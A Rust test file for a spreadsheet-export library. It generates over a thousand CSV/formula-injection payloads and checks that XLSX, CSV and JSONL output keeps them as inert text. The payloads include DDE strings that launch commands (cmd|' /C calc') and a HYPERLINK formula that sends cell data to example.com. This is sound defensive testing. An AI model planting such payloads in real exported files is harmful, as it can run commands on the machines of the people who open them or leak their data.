//! A thousand texts that want to be formulas: none is live in either format, and each can be read as it was.
#![allow(clippy::unwrap_used, reason = "unwrap is how a test fails")]

use std::io::Cursor;
use std::process::Command;

use calamine::{Data, Reader, Xlsx};
use daybook_sheets::{Cell, Column, Format, Table, Zone};

/// What attackers are known to write, with everything before it that programs are known to pass over.
fn payloads() -> Vec<String> {
    let before = [
        "",
        " ",
        "  ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\u{a0}",
        "\u{3000}",
        "\u{feff}",
        "\u{200b}",
        "\u{200d}\u{2060}",
        "\"",
        "'",
        "\"\"",
        "“",
        "\u{0}",
        "\u{b}",
        "\u{ad}",
        " \t \u{200b}\"",
        ";",
        "x;",
        "x\t",
        "x\n",
        "x\";\"",
        "x\r\n \u{feff}",
        ";;",
        "1;2;",
        "a\u{2028}",
        "\u{202e}",
    ];
    let operators = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.com/?\"&A1,\"x\")",
        "SUM(A1:A9)",
        "2+5+cmd|'/C calc'!A0;=1",
    ];
    let mut all = Vec::new();
    for body in bodies {
        for operator in operators {
            all.extend(before.iter().map(|before| format!("{before}{operator}{body}")));
        }
    }
    assert!(all.len() >= 1_000);
    all
}

fn written(format: Format, payloads: &[String]) -> Vec<u8> {
    let columns = vec![Column::new("n", 8), Column::new("text", 40), Column::new("list", 40)];
    let mut table = Table::new(format, Vec::new(), "orders", columns, Zone::utc()).unwrap();
    for (n, payload) in (0..).zip(payloads) {
        let list = Cell::List(vec!["a".into(), payload.into()]);
        table.row(&[Cell::Integer(n), Cell::text(payload), list]).unwrap();
    }
    table.finish().unwrap().0
}

#[test]
fn no_cell_of_xlsx_is_a_formula_and_every_text_is_whole() {
    let payloads = payloads();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(written(Format::Xlsx, &payloads))).unwrap();
    let formulas = book.worksheet_formula("orders").unwrap();
    assert_eq!(formulas.used_cells().count(), 0);
    let cells = book.worksheet_range("orders").unwrap();
    for (row, payload) in (1..).zip(&payloads) {
        let shown = payload.replace(['\u{0}', '\u{b}'], "\u{fffd}");
        assert_eq!(cells.get_value((row, 1)), Some(&Data::String(shown)));
    }
}

/// The rule written anew, from the cells as a program with this separator sees them: live is what begins with an operator
/// once everything is taken away that any program is known to pass over, or with a TAB or a carriage return.
fn live_cells(csv: &[u8], separator: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().delimiter(separator).flexible(true).from_reader(csv);
    let mut live = Vec::new();
    for record in reader.records() {
        for cell in &record.unwrap() {
            let operators = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
            let is_passed_over = |c: char| {
                c.is_whitespace()
                    || c.is_control()
                    || c == '"'
                    || (!c.is_ascii() && !c.is_alphanumeric() && !operators.contains(&c))
            };
            let seen = cell.trim_start_matches(is_passed_over);
            if seen.starts_with(operators) || cell.starts_with(['\t', '\r']) {
                live.push(cell.to_owned());
            }
        }
    }
    live
}

#[test]
fn the_rule_that_judges_csv_finds_what_is_live() {
    let raw = b"n,text\r\n1,=1\r\n2,\" \xE2\x80\x8B+1\"\r\n3,\"\tx\"\r\n4,'=1\r\n5,a=1\r\n6,-5.00\r\n";
    assert_eq!(live_cells(raw, b','), ["=1", " \u{200b}+1", "\tx", "-5.00"]);
}

#[test]
fn no_cell_of_csv_is_live_whatever_separates_cells() {
    let payloads = payloads();
    let bytes = written(Format::Csv, &payloads);
    for separator in [b',', b';', b'\t'] {
        assert_eq!(live_cells(&bytes, separator), Vec::<String>::new(), "{}", separator as char);
    }
    let mut reader = csv::Reader::from_reader(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap());
    assert_eq!(reader.records().count(), payloads.len(), "no payload makes a row of its own");
}

/// LibreOffice, where there is one, finds none either.
#[test]
fn libreoffice_finds_no_formula() {
    if Command::new("soffice").arg("--version").output().is_err() {
        eprintln!("skipped: there is no soffice here");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    for format in [Format::Csv, Format::Xlsx] {
        let name = format!("payloads.{}", format.extension());
        std::fs::write(folder.path().join(&name), written(format, &payloads())).unwrap();
        let converted = Command::new("soffice")
            .args(["--headless", "--convert-to", "fods", &name])
            .current_dir(folder.path())
            .env("HOME", folder.path())
            .output()
            .unwrap();
        assert!(converted.status.success());
        let text = std::fs::read_to_string(folder.path().join("payloads.fods")).unwrap();
        assert!(!text.contains("table:formula"), "{name}");
    }
}

#[test]
fn json_lines_hold_every_payload_as_it_is() {
    let payloads = payloads();
    let text = String::from_utf8(written(Format::Jsonl, &payloads)).unwrap();
    let read: Vec<String> = text
        .lines()
        .map(|line| {
            let row: serde_json::Value = serde_json::from_str(line).unwrap();
            row["text"].as_str().unwrap().to_owned()
        })
        .collect();
    assert_eq!(read, payloads);
}
